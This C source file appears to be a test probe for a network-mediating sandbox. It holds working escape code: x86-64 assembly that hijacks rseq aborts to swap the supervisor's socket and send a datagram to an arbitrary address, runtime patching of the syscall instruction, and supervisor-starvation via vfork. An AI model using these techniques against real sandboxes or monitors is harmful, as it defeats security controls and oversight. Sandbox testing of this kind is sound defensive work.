/*
 * Programs that turn the fetching of their descriptors against it: a thread that is made to run a call runs
 * something else, and a process that cannot be stopped is asked for over and over.
 *
 *     fetch_escape rseq PORT ADDRESS
 *         Sends a datagram to ADDRESS (inet:PORT, unix:PATH) itself: prints "direct: RESULT". Then it connects
 *         to 127.0.0.1:PORT from within a restartable sequence, rseq(2). The kernel leads a thread that is
 *         resumed there, as after a tracer's stop, to the sequence's abort: in an injected call that is code
 *         of this program. It makes a thread that puts a datagram socket in the place of the tracer's, and
 *         ADDRESS into the message. Prints "connected: N" and "hijacked: N" when it is left alone.
 *     fetch_escape spin PORT [MARK]
 *         The same, but the abort does not return: a child ("spinner: PID") spins there, beside a process in
 *         a session of its own ("sibling: PID"). Prints "spinning: OK", when the child has ended "ended: N",
 *         its signal (0: it went on for too long), and "after: N" milliseconds; and what becomes of the
 *         others: "alive: OK" for the sibling, "connect: RESULT" for the first process.
 *     fetch_escape patch PORT TIMES
 *         Connects so often, while a process that shares its memory turns the system call's instruction into
 *         a jump and back. An injected call that jumps is "hijacked: N"; prints "connected: N", too.
 *     fetch_escape starve PORT THREADS free|stuck
 *         A child connects without end in so many threads. "stuck": another one waits for the end of its
 *         vfork(), and cannot be stopped. Prints the "longest: N" milliseconds that a connect of the first
 *         process takes meanwhile, "failed: N" of them, and "refused: N" of the child's.
 *
 * MARK has no meaning: the test finds it in command lines. Where this is not written for the machine or rseq
 * is not there, it prints "unsupported: REASON".
 */
#define _GNU_SOURCE
#include "probe.h"

#if defined(__x86_64__) && defined(__has_include)
#if __has_include(<sys/rseq.h>)
#define SUPPORTED
#endif
#endif

#ifdef SUPPORTED

#include "fetch_target.h"

#include <netinet/in.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdint.h>
#include <sys/mman.h>
#include <sys/rseq.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>

enum { ATTEMPTS = 40, STACK_SIZE = 1 << 20, SPIN_MS_MAX = 8000, STARVE_MS = 3500 };

static struct sockaddr_in server = {.sin_family = AF_INET};

static int64_t now_ms(void)
{
    struct timespec now;

    clock_gettime(CLOCK_MONOTONIC, &now);
    return now.tv_sec * 1000 + now.tv_nsec / 1000000;
}

static int connect_once(void)
{
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    int result = connect(fd, (struct sockaddr *)&server, sizeof(server)) == 0 ? 0 : errno;

    close(fd);
    return result;
}

static void *shared_memory(size_t size)
{
    void *memory = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);

    if (memory == MAP_FAILED) {
        perror("fetch_escape: mmap");
        exit(2);
    }
    return memory;
}

/* ---- The hijack ---------------------------------------------------------------------------------- */

/* As the kernel reads it: struct rseq_cs. */
struct sequence {
    uint32_t version, flags;
    uint64_t start, length, abort;
} __attribute__((aligned(32)));

#define FOR_ASSEMBLY __attribute__((visibility("hidden"), used))

extern const char hijack_start[], hijack_first_abort[], hijack_second_abort[];
long hijack_connect(void);
void hijack_race(void);

extern struct sequence hijack_first, hijack_second;
extern uint64_t *hijack_active; /* the thread's pointer to its sequence */
extern uint64_t hijack_outer_stack, hijack_stack, hijack_race_stack;
extern uint64_t hijack_fd, hijack_address;    /* of the connect */
extern uint64_t hijack_channel, hijack_place; /* the tracer's socket, its message */
extern _Atomic uint64_t hijack_ready, hijack_spins;
extern _Atomic uint64_t *hijack_count; /* shared with the parent */

FOR_ASSEMBLY struct sequence hijack_first, hijack_second;
FOR_ASSEMBLY uint64_t *hijack_active;
FOR_ASSEMBLY uint64_t hijack_outer_stack, hijack_stack, hijack_race_stack;
FOR_ASSEMBLY uint64_t hijack_fd, hijack_address, hijack_channel, hijack_place;
FOR_ASSEMBLY _Atomic uint64_t hijack_ready, hijack_spins;
FOR_ASSEMBLY _Atomic uint64_t *hijack_count;

__asm__(
    ".text\n"
    ".globl hijack_connect, hijack_start, hijack_first_abort, hijack_second_abort\n"
    ".hidden hijack_connect, hijack_start, hijack_first_abort, hijack_second_abort\n"
    "hijack_connect:\n"
    "    push %rbx\n    push %rbp\n    push %r12\n    push %r13\n    push %r14\n    push %r15\n"
    "    mov %rsp, hijack_outer_stack(%rip)\n"
    "    mov hijack_active(%rip), %r8\n"
    "    mov hijack_stack(%rip), %rsp\n"
    "    mov hijack_fd(%rip), %rdi\n"
    "    mov hijack_address(%rip), %rsi\n"
    "    mov $16, %edx\n"
    "    mov $42, %eax\n" /* connect */
    "0:  lea hijack_first(%rip), %r9\n"
    "    mov %r9, (%r8)\n"
    "hijack_start:\n" /* the sequence is this instruction, where an injected call starts too */
    "    syscall\n"
    "1:  movq $0, (%r8)\n"
    "    mov hijack_outer_stack(%rip), %rsp\n"
    "    pop %r15\n    pop %r14\n    pop %r13\n    pop %r12\n    pop %rbp\n    pop %rbx\n"
    "    ret\n"

    /* In the place of sendmsg(): make a thread. With an exit signal, as a fork has one, the kernel
         * does not call that a clone to a tracer. */
    "    .byte 0x0f, 0xb9, 0x3d\n    .long 0x53053053\n" /* RSEQ_SIG */
    "hijack_first_abort:\n"
    "    cmp $42, %eax\n" /* our own connect was only interrupted on its way */
    "    je 0b\n"
    "    mov hijack_count(%rip), %r10\n"
    "    lock incq (%r10)\n"
    "2:  pause\n"
    "    cmpq $0, hijack_spins(%rip)\n"
    "    jne 2b\n"
    "    mov %rdi, hijack_channel(%rip)\n"
    "    mov %rsi, hijack_place(%rip)\n"
    "    lea hijack_second(%rip), %r9\n"
    "    mov %r9, (%r8)\n"
    "    mov $0x50f11, %edi\n" /* CLONE_{VM,FS,FILES,SIGHAND,THREAD,SYSVSEM} | SIGCHLD */
    "    mov hijack_race_stack(%rip), %rsi\n"
    "    xor %edx, %edx\n"
    "    xor %r10d, %r10d\n"
    "    mov $56, %eax\n" /* clone */
    "    syscall\n"
    "    test %eax, %eax\n"
    "    jnz 1b\n"
    "    call hijack_race\n"
    "    xor %edi, %edi\n"
    "    mov $60, %eax\n" /* exit */
    "    syscall\n"
    "    hlt\n"

    /* In the place of close(): the message, when the thread has changed it. */
    "    .byte 0x0f, 0xb9, 0x3d\n    .long 0x53053053\n"
    "hijack_second_abort:\n"
    "3:  pause\n"
    "    cmpq $0, hijack_ready(%rip)\n"
    "    je 3b\n"
    "    mov hijack_channel(%rip), %rdi\n"
    "    mov hijack_place(%rip), %rsi\n"
    "    mov $0x4040, %edx\n" /* the flags of an injected message */
    "    mov $46, %eax\n"     /* sendmsg */
    "    syscall\n"
    "    jmp 1b\n");

static char text[] = "escaped";
static struct iovec vector = {text, sizeof(text)};
static atomic_bool over, finished;

/* Calls alone: this thread has the other one's thread-local memory, and so its errno. */
static long call2(long number, long first, long second)
{
    long result;

    __asm__ volatile("syscall"
                     : "=a"(result)
                     : "a"(number), "D"(first), "S"(second)
                     : "rcx", "r11", "memory");
    return result;
}

static void wait_a_moment(void)
{
    for (volatile int i = 0; i < 60; i++)
        continue;
}

/* The new thread: other threads believe that none is there. */
FOR_ASSEMBLY void hijack_race(void)
{
    struct msghdr *message = (struct msghdr *)hijack_place; /* NOLINT */
    long channel = (long)hijack_channel, saved = call2(SYS_dup, channel, 0);

    *message = (struct msghdr){
        .msg_name = &target, .msg_namelen = target_length, .msg_iov = &vector, .msg_iovlen = 1};
    hijack_ready = 1;
    while (!over) {
        call2(SYS_dup2, datagrams, channel);
        wait_a_moment();
        call2(SYS_dup2, saved, channel);
        wait_a_moment();
    }
    call2(SYS_close, saved, 0);
    call2(SYS_close, channel, 0);
    finished = true;
}

static bool prepare_hijack(bool spins)
{
    char *stacks =
        mmap(NULL, STACK_SIZE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    uint64_t thread;

    if (__rseq_size == 0 || stacks == MAP_FAILED) {
        printf("unsupported: no restartable sequences\n");
        return false;
    }
    memset(stacks, 0, STACK_SIZE);
    __asm__("mov %%fs:0, %0" : "=r"(thread));
    hijack_active = (uint64_t *)(thread + (uint64_t)__rseq_offset + 8); /* NOLINT */
    hijack_stack = (uint64_t)(stacks + STACK_SIZE / 2);
    hijack_race_stack = (uint64_t)(stacks + STACK_SIZE - 64);
    hijack_address = (uint64_t)&server;
    hijack_first = (struct sequence){
        .start = (uint64_t)hijack_start, .length = 2, .abort = (uint64_t)hijack_first_abort};
    hijack_second = (struct sequence){
        .start = (uint64_t)hijack_start, .length = 2, .abort = (uint64_t)hijack_second_abort};
    hijack_spins = spins;
    return true;
}

static bool connect_hijacked(void)
{
    int fd = socket(AF_INET, SOCK_STREAM, 0);

    hijack_fd = (uint64_t)fd;
    hijack_channel = 0;
    hijack_ready = 0;
    over = finished = false;
    long result = hijack_connect();
    if (hijack_channel != 0) {
        over = true;
        while (!finished)
            sched_yield();
        usleep(200); /* for its exit */
    }
    close(fd);
    return result == 0;
}

static int run_rseq(const char *address)
{
    int connected = 0;

    if (!parse_target(address)) {
        printf("target: %s\n", probe_errno_name(errno));
        return 1;
    }
    if (!prepare_hijack(false))
        return 0;
    probe_report("direct",
                 sendto(datagrams, "direct", 6, 0, (struct sockaddr *)&target, target_length));
    for (int i = 0; i < ATTEMPTS; i++)
        connected += connect_hijacked();
    printf("connected: %d\nhijacked: %d\n", connected, (int)*hijack_count);
    return 0;
}

/* ---- Spinning ------------------------------------------------------------------------------------ */

static pid_t start_sibling(void)
{
    pid_t child = fork();

    if (child == 0) {
        setsid();
        for (;;)
            pause();
    }
    return child;
}

static int run_spin(void)
{
    int status = 0;
    pid_t ended = 0;

    if (!prepare_hijack(true))
        return 0;
    pid_t sibling = start_sibling(), spinner = fork();
    if (spinner == 0) {
        connect_hijacked();
        _exit(0);
    }
    printf("sibling: %d\nspinner: %d\n", sibling, spinner);
    int64_t start = now_ms();
    while (*hijack_count == 0 && now_ms() - start < SPIN_MS_MAX)
        usleep(1000);
    printf("spinning: %s\n", *hijack_count != 0 ? "OK" : "no");
    fflush(stdout);
    start = now_ms();
    while (ended == 0 && now_ms() - start < SPIN_MS_MAX) {
        usleep(10000);
        ended = waitpid(spinner, &status, WNOHANG);
    }
    printf("ended: %d\nafter: %d\n", ended == spinner && WIFSIGNALED(status) ? WTERMSIG(status) : 0,
           (int)(now_ms() - start));
    if (ended == 0)
        kill(spinner, SIGKILL);
    probe_report("alive", waitpid(sibling, NULL, WNOHANG) == 0 ? kill(sibling, 0) : -1);
    int error = connect_once();
    printf("connect: %s\n", error == 0 ? "OK" : probe_errno_name(error));
    kill(sibling, SIGKILL);
    return 0;
}

/* ---- Patching ------------------------------------------------------------------------------------ */

extern const char patched_start[], patched_instruction[], patched_end[];

/* To be copied: connect(), whose instruction becomes "jmp" over 12 bytes. Behind it our own call, which came
 * by as such, is made after all; an injected one is counted. */
__asm__(".text\n"
        ".globl patched_start, patched_instruction, patched_end\n"
        ".hidden patched_start, patched_instruction, patched_end\n"
        "patched_start:\n"
        "    mov $42, %eax\n"
        "patched_instruction:\n"
        "    syscall\n"
        "    ret\n"
        "    .org patched_instruction + 14, 0xcc\n"
        "    cmp $42, %eax\n"
        "    je 1f\n"
        "    incq (%r9)\n"
        "1:  syscall\n"
        "    ret\n"
        "patched_end:\n");

enum { IS_SYSCALL = 0x050f, IS_JUMP = 0x0ceb };

static volatile uint16_t *patched;
static char patcher_stack[65536] __attribute__((aligned(16)));

static int patch_always(void *data)
{
    (void)data;
    while (!over) {
        *patched = IS_SYSCALL;
        wait_a_moment();
        *patched = IS_JUMP;
        wait_a_moment();
    }
    *patched = IS_SYSCALL;
    return 0;
}

static int run_patch(int attempts)
{
    typedef long (*function)(int, const void *, int, long, long, _Atomic uint64_t *count);
    int file = memfd_create("code", MFD_CLOEXEC), connected = 0;

    if (file < 0 || ftruncate(file, 4096) != 0) {
        perror("fetch_escape: memfd_create");
        return 2;
    }
    uint8_t *writable = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0);
    void *code = mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_SHARED, file, 0);
    if (writable == MAP_FAILED || code == MAP_FAILED) {
        perror("fetch_escape: mmap");
        return 2;
    }
    memcpy(writable, patched_start, (size_t)(patched_end - patched_start));
    patched = (uint16_t *)(writable + (patched_instruction - patched_start));
    pid_t child =
        clone(patch_always, patcher_stack + sizeof(patcher_stack), CLONE_VM | SIGCHLD, NULL);
    for (int i = 0; i < attempts; i++) {
        int fd = socket(AF_INET, SOCK_STREAM, 0);
        connected += ((function)code)(fd, &server, sizeof(server), 0, 0, hijack_count) == 0;
        close(fd);
    }
    over = true;
    waitpid(child, NULL, 0);
    printf("connected: %d\nhijacked: %d\n", connected, (int)*hijack_count);
    return 0;
}

/* ---- Starving ------------------------------------------------------------------------------------ */

struct tally {
    atomic_int asked, refused;
};

static void *wait_for_vfork(void *data)
{
    (void)data;
    if (vfork() == 0) { /* NOLINT: that its parent cannot be stopped is the point */
        sleep(30);
        _exit(0);
    }
    return NULL;
}

static void *connect_always(void *data)
{
    struct tally *tally = data;

    for (;;) {
        tally->refused += connect_once() == EPERM;
        tally->asked++;
    }
    return NULL;
}

static void starve_others(struct tally *tally, int threads, bool stuck)
{
    pthread_t thread;

    if (stuck)
        pthread_create(&thread, NULL, wait_for_vfork, NULL);
    usleep(50000);
    for (int i = 0; i < threads; i++)
        pthread_create(&thread, NULL, connect_always, tally);
    for (;;)
        pause();
}

static int run_starve(int threads, bool stuck)
{
    struct tally *tally = shared_memory(sizeof(*tally));
    int failed = 0;
    int64_t longest = 0;
    pid_t child = fork();

    if (child == 0)
        starve_others(tally, threads, stuck);
    int64_t start = now_ms();
    while (tally->asked == 0 && now_ms() - start < STARVE_MS)
        usleep(1000);
    start = now_ms();
    do {
        int64_t before = now_ms();
        failed += connect_once() != 0;
        int64_t time = now_ms() - before;
        longest = time > longest ? time : longest;
        usleep(20000);
    } while (now_ms() - start < STARVE_MS);
    printf("longest: %d\nfailed: %d\nrefused: %d\n", (int)longest, failed, tally->refused);
    kill(child, SIGKILL);
    return 0;
}

int main(int argc, char **argv)
{
    hijack_count = shared_memory(sizeof(*hijack_count));
    if (argc > 2)
        server.sin_port = htons((uint16_t)atoi(argv[2]));
    server.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (argc == 4 && strcmp(argv[1], "rseq") == 0)
        return run_rseq(argv[3]);
    if (argc >= 3 && strcmp(argv[1], "spin") == 0)
        return run_spin();
    if (argc == 4 && strcmp(argv[1], "patch") == 0)
        return run_patch(atoi(argv[3]));
    if (argc == 5 && strcmp(argv[1], "starve") == 0)
        return run_starve(atoi(argv[3]), strcmp(argv[4], "stuck") == 0);
    fprintf(stderr, "usage: fetch_escape rseq|spin|patch|starve ...\n");
    return 2;
}

#else

int main(void)
{
    printf("unsupported: written for x86-64 and a libc with rseq\n");
    return 0;
}

#endif
